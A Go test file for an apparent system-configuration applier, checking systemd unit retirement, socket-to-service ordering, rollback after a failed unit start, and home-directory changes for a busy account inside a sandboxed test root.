// A unit file that goes takes its unit with it.
func TestRetiredUnit(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	l := layer.Layer{Name: "x", Files: []layer.File{file("/etc/systemd/system/ours.timer", "[Timer]\n")},
		Units: []layer.Unit{{Name: "ours.timer", Enabled: on(), Active: on()}}}
	r.apply(l, "t1").want(t, 0, "applied", "/etc/systemd/system/ours.timer", "unit ours.timer")
	r.Has("/run/systemctl.log", `show --property=Id,LoadState,ActiveState,UnitFileState -- ours.timer
--no-ask-password daemon-reload
show --property=Id,LoadState,ActiveState,UnitFileState -- ours.timer
--no-ask-password enable ours.timer
reset-failed ours.timer
--no-ask-password start ours.timer
`)
	r.apply(layer.Layer{Name: "x"}, "t2").want(t, 0, "applied", "/etc/systemd/system/ours.timer", "unit ours.timer")
	if units := r.Sh("ls /run/units"); units != "" {
		t.Errorf("units: %q", units)
	}
}

// A socket's service is stopped before it is enabled, or systemd forgets it.
func TestSocketToService(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	r.Sh("cd /run/units && touch ssh.socket.enabled ssh.socket.active ssh.service.active")
	l := layer.Layer{Name: "ssh", Units: []layer.Unit{{Name: "ssh.socket", Enabled: off(), Active: off()}, {Name: "ssh.service", Enabled: on(), Active: on()}}}
	r.apply(l, "t1").want(t, 0, "applied", "unit ssh.socket", "unit ssh.service")
	if calls := r.Sh("grep -v show /run/systemctl.log"); calls != `--no-ask-password disable ssh.socket
--no-ask-password stop ssh.socket
--no-ask-password stop ssh.service
--no-ask-password enable ssh.service
reset-failed ssh.service
--no-ask-password start ssh.service
` {
		t.Errorf("calls:\n%s", calls)
	}
	r.quiet("ssh")
}

func TestUnitDoesNotStart(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	r.Write("/run/units/broken", "x.service\n")
	r.Sh("printf '#!/bin/sh\necho x.service says why not\n' >/usr/local/sbin/journalctl; chmod 755 /usr/local/sbin/journalctl")
	l := simple("a\n")
	l.Units = []layer.Unit{{Name: "x.service", Enabled: on(), Active: on()}}
	o := r.apply(l, "t1")
	o.want(t, 1, "failed")
	o.says(t, `unit "x.service": "systemctl --no-ask-password start x.service": exit status 1:
| Job for x.service failed.
| x.service says why not
what was before is in force again`)
	r.Has("/etc/simple/one.conf", "")
}

// TestHomeOfABusyAccount: usermod refuses it while a process runs, and vipw forgets what is written in the second in which it began.
func TestHomeOfABusyAccount(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	modules, err := filepath.Abs("..")
	if err != nil {
		t.Fatal(err)
	}
	r.Sh("useradd --system --home-dir /a busy")
	got := r.Sh(`PYTHONPATH=$1 python3 -c '
import os, pwd
from applier.accounts import set_home
for home in ("/b", "/c & d", "/e", "/f", "/nonexistent"):
    os.utime("/etc/passwd")
    set_home("busy", home)
    print(pwd.getpwnam("busy").pw_dir)'`, modules)
	if want := "/b\n/c & d\n/e\n/f\n/nonexistent\n"; got != want {
		t.Errorf("homes: got %q, want %q", got, want)
	}
}
